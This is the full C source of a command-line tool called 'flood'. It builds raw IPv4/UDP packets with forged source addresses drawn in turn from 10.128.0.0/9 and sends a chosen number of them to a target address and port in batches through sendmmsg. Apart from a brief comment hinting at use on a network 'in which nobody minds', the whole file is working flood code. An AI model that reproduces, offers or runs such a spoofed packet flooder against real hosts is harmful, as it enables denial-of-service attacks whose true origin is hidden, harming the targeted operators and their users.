// SPDX-License-Identifier: Apache-2.0

// Sends UDP datagrams that seem to come from many hosts, each from one of its own: 10.128.0.0/9 has eight million.
//
//     flood TARGET PORT COUNT
//
// It writes how many went. It needs CAP_NET_RAW, and a network in which nobody minds.

#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

enum { BATCH = 64, PAYLOAD = 8 };

struct packet {
    struct iphdr ip;
    struct udphdr udp;
    char payload[PAYLOAD];
} __attribute__((packed));

static void fail(const char *what) {
    fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
    exit(1);
}

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: flood TARGET PORT COUNT\n");
        return 64;
    }
    struct sockaddr_in target = {.sin_family = AF_INET};
    if (inet_pton(AF_INET, argv[1], &target.sin_addr) != 1) fail("target");
    const unsigned short port = htons((unsigned short)atoi(argv[2]));
    const long count = atol(argv[3]);
    const int raw = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    if (raw < 0) fail("socket");

    static struct packet packets[BATCH];
    struct iovec parts[BATCH];
    struct mmsghdr messages[BATCH];
    memset(messages, 0, sizeof messages);
    for (int i = 0; i < BATCH; i++) {
        packets[i].ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP};
        packets[i].ip.tot_len = htons(sizeof packets[i]);
        packets[i].ip.daddr = target.sin_addr.s_addr;
        packets[i].udp.uh_dport = port;
        packets[i].udp.uh_ulen = htons(sizeof packets[i].udp + PAYLOAD);
        memcpy(packets[i].payload, "spoofed!", PAYLOAD);
        parts[i] = (struct iovec){.iov_base = &packets[i], .iov_len = sizeof packets[i]};
        messages[i].msg_hdr = (struct msghdr){
            .msg_name = &target, .msg_namelen = sizeof target, .msg_iov = &parts[i], .msg_iovlen = 1};
    }
    long sent = 0;
    while (sent < count) {
        const int most = count - sent < BATCH ? (int)(count - sent) : BATCH;
        for (int i = 0; i < most; i++) {
            packets[i].ip.saddr = htonl(0x0a800000u + (unsigned)(sent + i));
            packets[i].udp.uh_sport = htons((unsigned short)(20000 + (sent + i) % 20000));
        }
        const int went = sendmmsg(raw, messages, (unsigned)most, 0);
        if (went < 0 && errno != ENOBUFS && errno != EAGAIN && errno != EINTR) fail("sendmmsg");
        if (went > 0) sent += went;
    }
    printf("%ld\n", sent);
    return 0;
}
